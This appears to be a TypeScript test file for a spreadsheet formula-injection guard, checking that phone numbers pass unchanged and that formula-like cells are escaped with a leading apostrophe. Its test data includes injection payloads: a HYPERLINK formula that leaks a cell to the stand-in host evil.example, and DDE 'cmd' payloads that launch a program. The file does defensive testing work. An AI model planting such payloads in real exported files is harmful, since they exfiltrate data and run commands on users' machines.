import { describe, expect, it } from 'vitest';
import { guardCell, startsFormula, unguardCell } from './formula-guard';
import { formatCell } from './write-row';

/** Numbers and phones as people type them: a spreadsheet can at most do arithmetic with them. */
const AS_TYPED = [
  '+1 415 555 0100',
  '+14155550100',
  '+1-415-555-0100',
  '+1 (415) 555-0100',
  '+44 20 7946 0958',
  '+33 1.23.45.67.89',
  '+49 30/1234567',
  '+1-415-555-0100 x123',
  '+1 415 555 0100 X 123',
  '+1 415 555 0100 ext. 123',
  '+1 415 555 0100 ext 123',
  '+1 415 555 0100 Ext.123',
  '+1 415 555 0100 #123',
  '-5',
  '-7.5',
  '-0.25',
  '+42',
  '-1 000 000',
];

/** Cells that start like a formula and hold more than digits and phone punctuation. */
const RUNNABLE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&C2,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-2+3',
  '+1+1',
  '@SUM(1)',
  '@',
  '+',
  '-',
  '- ',
  '+()',
  '+1-',
  '+1 415 x',
  '+1 415 555 0100 x',
  '+1 415 555 0100 x123 x4',
  '+1 415 555 0100 ext:123',
  '+1 415 555 0100-x123',
  '+x123',
  '-A1',
  '+1E5',
  '-1,5',
  '+1 415\u00a0555 0100',
  '+1 415 555 0100\n',
  '+1\n415',
  '\t+1 415 555 0100',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tx',
  '\u{ff1d}1+1',
  '\u{ff0b}1 415 555 0100',
  '\u{ff0d}5',
  '\u{ff20}SUM(1)',
  '-Dash',
  '+Plus Inc',
  '-x@acme.com',
];

describe('startsFormula', () => {
  it.each(AS_TYPED)('leaves the number or phone %j to the spreadsheet', (value) => {
    expect(startsFormula(value)).toBe(false);
  });

  it.each(RUNNABLE)('flags %j', (value) => {
    expect(startsFormula(value)).toBe(true);
  });

  it.each(['plain', '415 555 0100', '(415) 555-0100', '1+1', 'a=b', "'=1+1", ''])(
    'does not flag %j, which starts with no formula character',
    (value) => {
      expect(startsFormula(value)).toBe(false);
    },
  );
});

describe('guardCell', () => {
  it.each(AS_TYPED)('writes %j exactly as it was', (value) => {
    expect(guardCell(value)).toBe(value);
    expect(unguardCell(value)).toBe(value);
    expect(formatCell(value)).toBe(value);
  });

  it.each([...RUNNABLE, "'=x", "''+1+1", "'@SUM(1)", "'\u{ff1d}1"])(
    'guards %j and unguardCell restores it',
    (value) => {
      const guarded = guardCell(value);
      expect(guarded).toBe(`'${value}`);
      expect(unguardCell(guarded)).toBe(value);
    },
  );

  it.each(['plain', "'quoted'", '', '1+1', 'a=b', "'+1 415 555 0100", "''-7.5", "'"])(
    'leaves %j alone',
    (value) => {
      expect(guardCell(value)).toBe(value);
      expect(unguardCell(value)).toBe(value);
    },
  );

  it('quotes guarded cells that need quoting', () => {
    expect(formatCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(formatCell('a,b')).toBe('"a,b"');
    expect(formatCell('\n=1+1')).toBe(`"'\n=1+1"`);
  });
});

describe('unguardCell', () => {
  // Every character the rule looks at, and some it does not, so random strings cross its boundary often.
  const ALPHABET = [..."'''=+-@\t\r\n \u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}0123456789().-/xXet#:!|\"&,aA\u00a0"];

  /** A deterministic pseudo-random generator (mulberry32), so a failure names a string that reproduces. */
  function random(seed: number) {
    let state = seed;
    return () => {
      state = (state + 0x6d2b79f5) | 0;
      let t = Math.imul(state ^ (state >>> 15), 1 | state);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
    };
  }

  it('is the exact inverse of guardCell over many strings, apostrophes and phones included', () => {
    const next = random(22);
    const samples = [...AS_TYPED, ...RUNNABLE];
    for (let i = 0; i < 20_000; i++) {
      const length = Math.floor(next() * 12);
      let value = '';
      for (let j = 0; j < length; j++) value += ALPHABET[Math.floor(next() * ALPHABET.length)];
      // Half the strings grow from a real phone or formula, behind 0–2 apostrophes, with random text after it.
      if (i % 2 === 0) {
        const base = samples[Math.floor(next() * samples.length)]!;
        value = `${"'".repeat(Math.floor(next() * 3))}${base}${i % 4 === 0 ? value : ''}`;
      }
      const guarded = guardCell(value);
      expect(unguardCell(guarded), JSON.stringify(value)).toBe(value);
      // What is written never starts a formula, and only cells that could are changed.
      expect(startsFormula(guarded), JSON.stringify(guarded)).toBe(false);
      if (guarded !== value) expect(guarded).toBe(`'${value}`);
    }
  });
});
